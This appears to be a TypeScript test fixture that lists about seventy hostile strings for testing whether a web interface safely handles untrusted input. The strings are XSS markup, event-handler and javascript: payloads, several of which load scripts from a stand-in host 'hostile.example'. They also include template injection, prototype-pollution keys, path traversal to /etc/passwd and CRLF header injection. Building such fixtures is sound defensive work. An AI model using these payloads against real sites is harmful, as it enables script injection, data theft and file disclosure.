/** Texts that a stranger may put into file names, notes, comments, libraries and addresses, hoping that a page runs, asks or breaks. */

const HOST = 'https://hostile.example';

/** Where markup would leave a mark: `globalThis.pwned`, an element with `data-pwned`, or a request to HOST. */
const RUN = 'globalThis.pwned=1';

const MARKUP = [
  `<script>${RUN}</script>`,
  `<script src="${HOST}/x.js"></script>`,
  `<script type="module">import "${HOST}/x.js"</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img data-pwned src="${HOST}/pixel.png">`,
  `"><img data-pwned src=x onerror=${RUN}>`,
  `'><svg data-pwned onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg data-pwned><use href="${HOST}/s.svg#x"/></svg>`,
  `<svg><animate data-pwned onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe data-pwned src="${HOST}"></iframe>`,
  `<iframe data-pwned srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data-pwned data="${HOST}/x"></object>`,
  `<embed data-pwned src="${HOST}/x">`,
  `<link data-pwned rel=stylesheet href="${HOST}/x.css">`,
  `<link data-pwned rel=prefetch href="${HOST}/x">`,
  `<style data-pwned>@import url(${HOST}/x.css)</style>`,
  `<style data-pwned>*{background:url(${HOST}/x.png)}</style>`,
  `<meta data-pwned http-equiv=refresh content="0;url=${HOST}">`,
  `<base data-pwned href="${HOST}/">`,
  `<form data-pwned action="${HOST}"><button>x</button></form>`,
  `<input data-pwned autofocus onfocus=${RUN}>`,
  `<details data-pwned open ontoggle=${RUN}>`,
  `<video data-pwned src=x onerror=${RUN}></video>`,
  `<audio data-pwned src=x onerror=${RUN}></audio>`,
  `<body onload=${RUN}>`,
  `<math><mi data-pwned xlink:href="javascript:${RUN}">x</mi></math>`,
  `<a data-pwned href="javascript:${RUN}">x</a>`,
  `<template data-pwned><script>${RUN}</script></template>`,
  `<textarea><img data-pwned src=x onerror=${RUN}></textarea>`,
  `<!--><img data-pwned src=x onerror=${RUN}>-->`,
  `<![CDATA[<img data-pwned src=x onerror=${RUN}>]]>`,
  `<wa-button data-pwned href="javascript:${RUN}">x</wa-button>`,
  `<wa-icon data-pwned src="${HOST}/i.svg"></wa-icon>`,
  `<porchlight-app data-pwned></porchlight-app>`,
  `<x data-pwned style="background:url(${HOST}/x)">`,
] as const;

const TEMPLATES = [
  '${globalThis.pwned=1}',
  '{{constructor.constructor("globalThis.pwned=1")()}}',
  '#{globalThis.pwned=1}',
  '<%= globalThis.pwned=1 %>',
  '`;globalThis.pwned=1;`',
  "';globalThis.pwned=1;//",
  '");globalThis.pwned=1;//',
  '\\u003cscript\\u003eglobalThis.pwned=1\\u003c/script\\u003e',
  '&lt;img src=x onerror=globalThis.pwned=1&gt;',
  '%3Cimg%20src%3Dx%20onerror%3DglobalThis.pwned%3D1%3E',
  '<!-- lit-part --><?lit$0?>',
] as const;

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `//hostile.example/x`,
  `${HOST}/x`,
  '/\\hostile.example/x',
  'blob:https://hostile.example/1',
] as const;

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__proto__[pwned]=1',
  'constructor.prototype.pwned',
  '{"__proto__":{"pwned":1}}',
] as const;

const CHARACTERS = [
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  'CON',
  'a\u0000b',
  'right\u202eto left',
  '\u200b\u200c\u200d\ufeff',
  'line\r\nSet-Cookie: pwned=1',
  'line\u2028separator\u2029s',
  '\ud800 lone surrogate',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u0320l\u0325g\u0316o',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(40),
  'x'.repeat(2_000),
] as const;

/** At least sixty, each as a file name, title or address might have it. */
export const HOSTILE: readonly string[] = [...MARKUP, ...TEMPLATES, ...ADDRESSES, ...NAMES, ...CHARACTERS];
